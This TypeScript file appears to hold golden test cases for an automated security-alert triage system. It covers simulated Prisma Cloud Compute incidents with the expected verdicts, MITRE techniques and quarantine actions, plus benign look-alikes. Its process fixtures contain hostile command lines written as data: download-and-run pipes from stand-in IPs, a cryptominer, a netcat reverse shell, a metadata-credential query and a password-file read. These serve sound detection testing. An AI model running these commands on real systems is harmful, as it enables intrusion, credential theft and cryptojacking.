import type { GoldenCase, ProcessSpec, VulnerabilitySpec } from '../case.ts';

const PUSH = 'test/fixtures/prisma-cloud-compute/push';
const INCIDENT = `${PUSH}/incident-cryptominer.template-v1.json`;
const RUNTIME = `${PUSH}/container-cryptominer.default-template.json`;
const HOST = `${PUSH}/host-process.template-v1.json`;
const DNS = `${PUSH}/host-dns-aggregated.default-template.json`;
const POD = 'prod-eks/payments/checkout-6d9f7c5b8d-x2x9q';
const RCE = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H';

export const LOG4SHELL: VulnerabilitySpec = {
  cve: 'CVE-2021-44228',
  package: 'org.apache.logging.log4j_log4j-core',
  type: 'jar',
  version: '2.14.1',
  fixedIn: '2.15.0',
  cvss: 10,
  vector: RCE,
  wild: true,
  remote: true,
};
const RAPID_RESET: VulnerabilitySpec = {
  cve: 'CVE-2023-44487',
  package: 'org.apache.tomcat.embed_tomcat-embed-core',
  type: 'jar',
  version: '9.0.80',
  fixedIn: '9.0.81',
  cvss: 7.5,
  vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H',
  wild: true,
  remote: true,
};
const JAVA: ProcessSpec = [1, undefined, '/usr/bin/java', '/usr/bin/java -jar /app/checkout.jar', -7200];
const FETCH: ProcessSpec = [4690, 1, '/bin/sh', 'sh -c curl -fsSL http://203.0.113.7/x.sh | sh', -90];
const MINER: ProcessSpec = [4711, 4690, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333', -80];

const runtime = (category: string, message: string, command: string, startupProcess = '/usr/bin/java') => ({
  file: RUNTIME,
  change: { category, message, command, startupProcess },
});

/** Prisma Cloud Compute: payloads by the vendor's documented macros (SOURCES.md of the fixtures). */
export const COMPUTE: readonly GoldenCase[] = [
  {
    id: 'compute-miner-log4shell',
    title: 'a miner below a shell that a vulnerable Java service started, with a cluster-admin account',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: INCIDENT }],
    context: {
      processes: [JAVA, FETCH, MINER],
      written: [['/tmp/.x/xmrig', 4690, -83]],
      connections: [['203.0.113.50', 3333]],
      names: ['pool.example.net'],
      linked: [{ what: 'image', value: `sha256:${'3f'.repeat(32)}`, workload: 'staging/checkout in staging-eks' }],
      container: { entryPoint: '/usr/bin/java -jar /app/checkout.jar', ports: [8080] },
      vulnerabilities: [LOG4SHELL, RAPID_RESET],
      knowledge: [{ cve: 'CVE-2021-44228', kev: '2021-12-10', ransomware: true, epss: 0.97 }],
      pod: {
        role: 'cluster-admin',
        serviceAccount: 'checkout',
        tokenMounted: true,
        root: true,
        service: 'LoadBalancer',
        revision: {
          minutesBefore: 16,
          from: '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.41.3',
          cause: 'release 1.42.0',
        },
      },
    },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1496.001', 'T1190', 'T1059.004', 'T1105'],
      acceptableTechniques: ['T1496', 'T1078.001', 'T1528'],
      cves: [{ cve: 'CVE-2021-44228', relevance: 'likely_exploited' }],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['kubernetes.remove-role-binding@*', 'advice.update-image@*', 'advice.rotate-credentials@*'],
      spawned: { process: '/tmp/.x/xmrig', by: ['/bin/sh', '/usr/bin/java'] },
      support: [
        { says: /started by/, cites: ['process:/tmp/.x/xmrig', 'process:x.sh'] },
        { says: /CVE-2021-44228/, cites: ['vulnerability:CVE-2021-44228'] },
        { says: /cluster-admin/, cites: ['role-binding:cluster-admin'] },
      ],
    },
  },
  {
    id: 'compute-miner-node-unscanned',
    title: 'a miner in a container whose image was never scanned',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: RUNTIME }],
    context: {
      processes: [
        [1, undefined, '/usr/local/bin/node', 'node server.js', -7200],
        [301, 1, '/bin/sh', 'sh -c wget http://203.0.113.7/a -O /tmp/.x/xmrig', -30],
        [310, 301, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333', -5],
      ],
      written: [['/tmp/.x/xmrig', 301, -10]],
      connections: [['203.0.113.50', 3333]],
      pod: { service: 'ClusterIP' },
      missing: { vulnerabilities: 'the console has no scan of this image' },
    },
    expected: {
      verdict: 'malicious',
      severity: ['high', 'critical'],
      techniques: ['T1496.001', 'T1059.004', 'T1105'],
      acceptableTechniques: ['T1496', 'T1190'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      spawned: { process: '/tmp/.x/xmrig', by: ['/bin/sh', '/usr/local/bin/node'] },
      support: [{ says: /xmrig/, cites: ['process:/tmp/.x/xmrig'] }],
    },
  },
  {
    id: 'compute-miner-denied',
    title: 'a miner alert of which the console knows nothing',
    source: 'prisma-cloud-compute',
    readBack: 'denied',
    alerts: [{ file: INCIDENT }],
    context: { pod: {} },
    expected: {
      verdict: 'undetermined',
      severity: ['high', 'critical'],
      abstain: true,
      acceptableTechniques: ['T1496', 'T1496.001'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/tmp/.x/xmrig', by: ['/bin/sh'] },
    },
  },
  {
    id: 'compute-console-down',
    title: 'a reverse shell alert while the console is down and the cluster cannot be read',
    source: 'prisma-cloud-compute',
    readBack: 'unreachable',
    alerts: [runtime('reverseShell', '/bin/bash launched by /usr/bin/java and is identified as a reverse shell.', '')],
    context: {
      missing: {
        'runtime-activity': 'the console could not be reached',
        vulnerabilities: 'the console could not be reached',
        workload: 'the cluster could not be reached',
        identity: 'the cluster could not be reached',
      },
    },
    expected: {
      verdict: 'undetermined',
      severity: ['critical', 'critical'],
      abstain: true,
      acceptableTechniques: ['T1059', 'T1059.004'],
      mustNot: ['kubernetes.quarantine-pod@*'],
    },
  },
  {
    id: 'compute-miner-bare',
    title: 'a confirmed miner, and nothing else could be read',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: RUNTIME, change: { startupProcess: '' } }],
    context: {
      missing: {
        vulnerabilities: 'HTTP 503',
        workload: 'the cluster could not be reached',
        identity: 'the cluster could not be reached',
        'recent-deployments': 'the cluster could not be reached',
      },
    },
    further: {
      processes: [
        [1, undefined, '/usr/local/bin/node', 'node server.js', -7_200],
        [4690, 1, '/bin/sh', 'sh -c curl -s http://203.0.113.20/d.sh | sh', -12],
        [4711, 4690, '/tmp/.x/xmrig', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333', 0],
      ],
      names: ['pool.example.net'],
      past: [{ verdict: 'malicious', outcome: 'contained' }],
      similar: [{ what: 'technique', value: 'T1496', verdict: 'malicious', outcome: 'contained' }],
    },
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: ['high', 'critical'],
      techniques: ['T1496.001'],
      acceptableTechniques: ['T1496'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      // The payload's message names the parent; with nothing else read it is the only evidence of it, and it suffices.
      spawned: { process: '/tmp/.x/xmrig', by: ['/bin/sh'] },
    },
  },
  {
    id: 'compute-host-reverse-shell',
    title: 'netcat gives a shell of a machine to an outside address',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: HOST }],
    context: {
      processes: [
        [900, undefined, '/bin/bash', '-bash', -300, { user: 'ec2-user' }],
        [931, 900, '/usr/bin/nc', 'nc -e /bin/bash 203.0.113.9 4444', 0, { user: 'ec2-user' }],
      ],
      connections: [['203.0.113.9', 4444]],
    },
    further: {
      past: [{ verdict: 'suspicious', outcome: 'expired' }],
    },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1059.004'],
      acceptableTechniques: ['T1059', 'T1095', 'T1571'],
      must: ['advice.investigate@ip-10-0-12-34.ec2.internal'],
      spawned: { process: '/usr/bin/nc', by: ['/bin/bash'] },
      support: [{ says: /203\.0\.113\.9/, cites: ['connection:203.0.113.9', 'process:203.0.113.9'] }],
    },
  },
  {
    id: 'compute-host-denied-name',
    title: 'a machine asked for a name its own policy forbids; nobody knows the name',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: DNS }],
    context: { intel: [{ indicator: 'c2.example.net', kind: 'domain', verdict: 'unknown', detail: 'not known' }] },
    expected: {
      verdict: 'suspicious',
      severity: ['medium', 'high'],
      techniques: ['T1071.004'],
      acceptableTechniques: ['T1071', 'T1568'],
      may: ['advice.investigate@*'],
    },
  },
  {
    id: 'compute-host-known-name',
    title: 'a machine asked for the name of a known control server',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: DNS }],
    context: {
      intel: [
        {
          indicator: 'c2.example.net',
          kind: 'domain',
          confidence: 94,
          verdict: 'malicious',
          detail: 'control server of a botnet',
        },
      ],
      anomalies: [{ dimension: 'domain', value: 'c2.example.net', new: true }],
    },
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: ['high', 'critical'],
      techniques: ['T1071.004'],
      acceptableTechniques: ['T1071', 'T1568'],
      must: ['advice.investigate@*'],
      support: [{ says: /c2\.example\.net/, cites: ['dns-query:c2.example.net', 'threat-intel:c2.example.net'] }],
    },
  },
  {
    id: 'compute-port-scan',
    title: 'a container scans its neighbours; no process is named',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: `${PUSH}/incident-empty-bare-macros.template-v1.json` }],
    context: {},
    further: {
      processes: [[310, undefined, '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', -1]],
      connections: [['10.0.0.21', 22]],
    },
    expected: { verdict: 'suspicious', severity: ['medium', 'high'], techniques: ['T1046'] },
  },
  {
    id: 'compute-function-miner',
    title: 'a miner in a function',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: `${PUSH}/serverless-cryptominer.template-v1.json` }],
    context: {},
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: ['high', 'critical'],
      techniques: ['T1496.001'],
      acceptableTechniques: ['T1496'],
    },
  },
  {
    id: 'compute-fargate-download',
    title: 'wget of a script from a bare address in a Fargate task',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: `${PUSH}/app-embedded.template-v1.json` }],
    context: {},
    expected: {
      verdict: 'suspicious',
      severity: ['medium', 'high'],
      techniques: ['T1105'],
      acceptableTechniques: ['T1059', 'T1059.004'],
      spawned: { process: '/usr/bin/wget', by: [] },
    },
  },
  {
    id: 'compute-chain-four-alerts',
    title: 'four small alerts that are one story: shell with a download, look-up, new program, outbound port',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [{ file: `${PUSH}/container-aggregated.template-v1.json` }],
    context: {
      processes: [JAVA, FETCH, [4720, 4690, '/tmp/.x/xmrig', undefined, 5]],
      vulnerabilities: [LOG4SHELL],
      pod: { service: 'LoadBalancer', tokenMounted: true },
    },
    further: {
      intel: [
        { indicator: 'pool.example.net', kind: 'domain', verdict: 'malicious', detail: 'mining pool in 4 reports' },
      ],
    },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1059.004', 'T1105', 'T1190', 'T1496.001'],
      acceptableTechniques: ['T1059', 'T1496', 'T1071'],
      cves: [{ cve: 'CVE-2021-44228', relevance: 'likely_exploited' }],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.update-image@*', 'advice.rotate-credentials@*', 'kubernetes.quarantine-pod@*'],
      spawned: { process: '/tmp/.x/xmrig', by: ['/bin/sh', '/usr/bin/java'] },
    },
  },
  {
    id: 'compute-image-xz',
    title: 'a new scan finds the backdoored liblzma in an image; nothing happened',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [
      {
        file: `${PUSH}/vulnerability.default-template.json`,
        change: { vulnerabilities: { '1': { hostname: 'ip-10-0-12-35.ec2.internal', newVulnerabilities: [] } } },
      },
    ],
    context: {
      vulnerabilities: [
        {
          cve: 'CVE-2024-3094',
          package: 'liblzma5',
          type: 'package',
          version: '5.6.1-1',
          fixedIn: '5.6.1+really5.4.5-1',
          cvss: 10,
          vector: RCE,
          public: true,
          remote: true,
        },
      ],
    },
    expected: {
      verdict: 'vulnerability_only',
      severity: ['critical', 'critical'],
      must: ['advice.update-image@*'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      support: [{ says: /CVE-2024-3094/, cites: ['vulnerability:CVE-2024-3094'] }],
    },
  },
  {
    id: 'compute-metadata-probing',
    title: 'a request forgery makes a service ask the metadata service for credentials',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [
      runtime(
        'cloudMetadataProbing',
        '/usr/bin/curl launched by /bin/sh is querying the cloud provider metadata API.',
        'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/checkout',
      ),
    ],
    context: {
      processes: [
        JAVA,
        [
          5001,
          1,
          '/bin/sh',
          'sh -c curl http://169.254.169.254/latest/meta-data/iam/security-credentials/checkout',
          -2,
        ],
        [
          5002,
          5001,
          '/usr/bin/curl',
          'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/checkout',
          0,
        ],
      ],
      connections: [['169.254.169.254', 80]],
      pod: { cloudRole: 'arn:aws:iam::111122223333:role/checkout', tokenMounted: true, service: 'LoadBalancer' },
    },
    expected: {
      verdict: 'malicious',
      acceptable: ['suspicious'],
      severity: ['high', 'critical'],
      techniques: ['T1552.005', 'T1059.004'],
      acceptableTechniques: ['T1190', 'T1552'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.rotate-credentials@*'],
      spawned: { process: '/usr/bin/curl', by: ['/bin/sh', '/usr/bin/java'] },
    },
  },
  {
    id: 'compute-web-shell',
    title: 'a web shell written below the document root runs commands',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [
      runtime(
        'webShell',
        '/usr/sbin/php-fpm8.2 wrote a suspicious file to /var/www/html/up/x.php',
        '',
        '/usr/sbin/php-fpm8.2',
      ),
    ],
    context: {
      processes: [
        [1, undefined, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', -7200],
        [41, 1, '/bin/sh', 'sh -c id; uname -a; cat /etc/passwd', 30],
      ],
      written: [['/var/www/html/up/x.php', 1, 0]],
      pod: { service: 'LoadBalancer' },
    },
    expected: {
      verdict: 'malicious',
      severity: ['critical', 'critical'],
      techniques: ['T1505.003', 'T1059.004'],
      acceptableTechniques: ['T1105', 'T1190', 'T1082', 'T1033', 'T1087.001'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      spawned: { process: '/bin/sh', by: ['/usr/sbin/php-fpm8.2'] },
    },
  },
  {
    id: 'compute-local-flaw-present',
    title: 'foreign code runs without root where pkexec can be used to become it',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [runtime('tmpfsProcess', '/dev/shm/k launched by /bin/sh from tmpfs', '/dev/shm/k')],
    context: {
      processes: [
        [1, undefined, '/usr/bin/python3.11', 'gunicorn app:app', -7200, { user: 'app' }],
        [60, 1, '/bin/sh', 'sh -c /dev/shm/k', -4, { user: 'app' }],
        [61, 60, '/dev/shm/k', '/dev/shm/k', 0, { user: 'app' }],
      ],
      written: [['/dev/shm/k', 1, -20]],
      vulnerabilities: [
        {
          cve: 'CVE-2021-4034',
          package: 'policykit-1',
          type: 'package',
          version: '0.105-31',
          fixedIn: '0.105-31+deb11u1',
          cvss: 7.8,
          vector: 'CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H',
          wild: true,
        },
      ],
      pod: {},
    },
    expected: {
      verdict: 'malicious',
      severity: ['high', 'critical'],
      techniques: ['T1059.004'],
      acceptableTechniques: ['T1105', 'T1068', 'T1190', 'T1620', 'T1027.011'],
      must: [`kubernetes.quarantine-pod@${POD}`],
      may: ['advice.update-image@*'],
      spawned: { process: '/dev/shm/k', by: ['/bin/sh', '/usr/bin/python3.11'] },
    },
  },
  {
    id: 'compute-health-check',
    title: 'look-alike: the liveness probe of a new release is a shell the model has not learned',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    lookAlike: true,
    alerts: [
      runtime(
        'unexpectedProcess',
        '/bin/sh launched but is not found in the runtime model. Full command: sh -c wget -q --spider http://localhost:8080/healthz',
        'sh -c wget -q --spider http://localhost:8080/healthz',
      ),
    ],
    context: {
      processes: [
        JAVA,
        [700, 0, '/bin/sh', 'sh -c wget -q --spider http://localhost:8080/healthz', 0, { user: 'app' }],
      ],
      pod: {
        revision: {
          minutesBefore: 12,
          cause: 'add liveness probe',
          from: '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.41.3',
        },
        managedBy: 'argocd',
      },
      anomalies: [{ dimension: 'process', value: '/bin/sh', new: true, replicas: [2, 2] }],
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'medium'],
      acceptableTechniques: ['T1059', 'T1059.004'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/bin/sh', by: [] },
    },
  },
  {
    id: 'compute-backup-job',
    title: 'look-alike: the nightly backup sends to the storage it always sends to',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    lookAlike: true,
    alerts: [
      runtime(
        'unexpectedOutboundPort',
        'Outbound connection by /usr/bin/rclone to an unexpected port: 443 IP: 198.51.100.80',
        '',
        '/usr/bin/rclone',
      ),
    ],
    context: {
      processes: [[1, undefined, '/usr/bin/rclone', 'rclone sync /data remote:backup', -60]],
      connections: [['198.51.100.80', 443]],
      intel: [
        {
          indicator: '198.51.100.80',
          kind: 'ip',
          confidence: 3,
          verdict: 'harmless',
          detail: 'object storage of a cloud provider',
        },
      ],
      anomalies: [{ dimension: 'network', value: '198.51.100.0/24', new: false }],
      pod: { controller: 'Job' },
      past: [{ verdict: 'suspicious', outcome: 'advice-only' }],
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'medium'],
      acceptableTechniques: ['T1048', 'T1567.002', 'T1041'],
      mustNot: ['kubernetes.quarantine-pod@*'],
    },
  },
  {
    id: 'compute-ci-build',
    title: 'look-alike: a build agent fetches from a package registry and compiles',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    lookAlike: true,
    alerts: [
      runtime(
        'unexpectedProcess',
        '/usr/bin/gcc launched by /usr/bin/make but is not found in the runtime model. Full command: gcc -O2 -c main.c',
        'gcc -O2 -c main.c',
        '/usr/bin/tini',
      ),
    ],
    context: {
      processes: [
        [1, undefined, '/usr/bin/tini', 'tini -- agent', -900],
        [20, 1, '/usr/bin/make', 'make all', -30],
        [21, 20, '/usr/bin/gcc', 'gcc -O2 -c main.c', 0],
        [22, 20, '/usr/bin/curl', 'curl -fsSLO https://registry.example.com/zlib-1.3.tar.gz', -20],
      ],
      names: ['registry.example.com'],
      pod: { labels: { role: 'ci-agent' } },
      ownership: { team: 'build-team', environment: 'ci' },
    },
    expected: {
      verdict: 'benign',
      acceptable: ['undetermined', 'suspicious'],
      severity: ['low', 'medium'],
      acceptableTechniques: ['T1059', 'T1105', 'T1027.004'],
      mustNot: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/usr/bin/gcc', by: ['/usr/bin/make', '/usr/bin/tini'] },
    },
  },
  {
    id: 'compute-scan-of-another-image',
    title: 'a shell below Java; the only scan is of an older image that does not run',
    source: 'prisma-cloud-compute',
    readBack: 'confirmed',
    alerts: [
      runtime(
        'unexpectedProcess',
        '/bin/sh launched by /usr/bin/java but is not found in the runtime model. Full command: sh -c id',
        'sh -c id',
      ),
    ],
    context: {
      processes: [JAVA, [80, 1, '/bin/sh', 'sh -c id', 0]],
      container: { entryPoint: '/usr/bin/java -jar /app/checkout.jar' },
      vulnerabilities: [{ ...LOG4SHELL, elsewhere: true }],
      pod: {},
    },
    expected: {
      verdict: 'suspicious',
      acceptable: ['malicious'],
      severity: ['medium', 'high'],
      techniques: ['T1059.004'],
      acceptableTechniques: ['T1059', 'T1033', 'T1190'],
      may: ['kubernetes.quarantine-pod@*'],
      spawned: { process: '/bin/sh', by: ['/usr/bin/java'] },
    },
  },
];
